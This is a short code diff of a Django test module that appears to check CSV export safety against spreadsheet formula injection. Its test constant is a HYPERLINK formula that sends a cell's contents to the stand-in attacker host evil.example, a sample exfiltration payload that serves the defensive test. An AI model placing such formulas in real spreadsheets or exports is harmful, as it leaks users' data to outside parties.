@@ -16,10 +16,8 @@ from core.csvsafe import FORMULA_PREFIXES
 from ideas import actions
 from portfolio.models import Activity
 from registry.models import Organisation
-from tests import workspace_support
 from tests.workspace_support import IDEA_DATA
 
-ada, vera = workspace_support.ada, workspace_support.vera
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
